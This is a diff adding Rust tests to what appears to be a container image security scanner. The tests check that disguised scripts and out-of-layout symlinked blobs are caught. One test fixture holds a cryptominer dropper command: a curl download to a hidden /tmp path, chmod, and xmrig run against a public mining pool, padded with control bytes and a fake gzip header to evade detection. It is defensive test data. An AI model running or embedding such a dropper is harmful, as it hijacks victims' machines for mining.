@@ -221,3 +221,53 @@ fn truncated_and_garbage_archive_files_are_errors_not_panics() {
     fs::write(&garbage, vec![0x5a; 4096]).unwrap();
     assert!(scan(&format!("docker-archive:{}", garbage.display())).is_err());
 }
+
+#[test]
+fn disguised_scripts_and_broken_archives_still_reach_the_rules() {
+    let dir = tempfile::tempdir().unwrap();
+    let dropper = "curl -sL https://example.invalid/x -o /tmp/.x/xmrig\nchmod +x /tmp/.x/xmrig\n/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n";
+    // Control bytes and NULs after the shebang must not make it "binary".
+    let mut noisy = b"#!/bin/sh\n#".to_vec();
+    noisy.extend(std::iter::repeat_n(1u8, 300));
+    noisy.extend(b"\0\n");
+    noisy.extend(dropper.as_bytes());
+    // gzip magic in front of a script: not a readable archive, still checked.
+    let mut fake_gzip = vec![0x1f, 0x8b];
+    fake_gzip.extend(b"\n#!/bin/sh\n");
+    fake_gzip.extend(dropper.as_bytes());
+    let image = one_layer(vec![
+        Entry::executable("/usr/local/bin/noisy", noisy),
+        Entry::file("/opt/fake.gz", fake_gzip),
+    ]);
+    let report = scan(&layout(dir.path(), &image)).unwrap();
+    for path in ["/usr/local/bin/noisy", "/opt/fake.gz"] {
+        assert!(
+            findings_for(&report, path)
+                .iter()
+                .any(|f| f.severity >= Severity::High),
+            "{path}: {:#?}",
+            report.findings
+        );
+    }
+    let skipped = report
+        .skipped
+        .iter()
+        .find(|s| s.path == "/opt/fake.gz")
+        .expect("the unreadable archive is listed");
+    assert!(
+        skipped.reason.contains("archive not fully read"),
+        "{}",
+        skipped.reason
+    );
+    assert_accounting(&report);
+}
+
+#[test]
+fn layout_blobs_that_are_links_out_of_the_layout_are_refused() {
+    let (dir, target) = demo_layout();
+    let layer = first_layer_blob(dir.path());
+    fs::remove_file(&layer).unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", &layer).unwrap();
+    let err = format!("{:#?}", scan(&target).unwrap_err());
+    assert!(err.contains("outside the image directory"), "{err}");
+}
